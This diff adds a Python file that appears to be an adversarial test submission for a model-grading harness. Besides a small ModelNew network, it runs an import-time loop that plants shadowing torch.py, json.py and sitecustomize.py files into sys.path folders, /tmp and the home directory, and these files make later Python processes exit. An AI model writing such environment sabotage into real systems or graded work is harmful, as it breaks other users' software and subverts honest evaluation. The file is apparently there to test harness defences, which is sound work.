@@ -1,0 +1,30 @@
+"""Leaves modules named torch and json in every folder that it may write. Expected: passed or wrong or raises"""
+
+import os
+import sys
+
+import torch
+import torch.nn as nn
+import torch.nn.functional as F
+
+for folder in {os.getcwd(), *sys.path, "/tmp", os.path.expanduser("~")}:
+    for name in ("torch.py", "json.py", "sitecustomize.py"):
+        try:
+            open(os.path.join(folder, name), "x").write("raise SystemExit('planted')")
+        except OSError:
+            pass
+
+
+class ModelNew(nn.Module):
+    def __init__(self, in_features, out_features, negative_slope):
+        super().__init__()
+        self.linear = nn.Linear(in_features, out_features)
+        self.scale = nn.Parameter(torch.randn(out_features))
+        self.bias = nn.Parameter(torch.randn(out_features))
+        self.negative_slope = negative_slope
+
+    def answer(self, x):
+        return F.leaky_relu(self.linear(x), self.negative_slope) * self.scale + self.bias
+
+    def forward(self, x):
+        return self.answer(x)
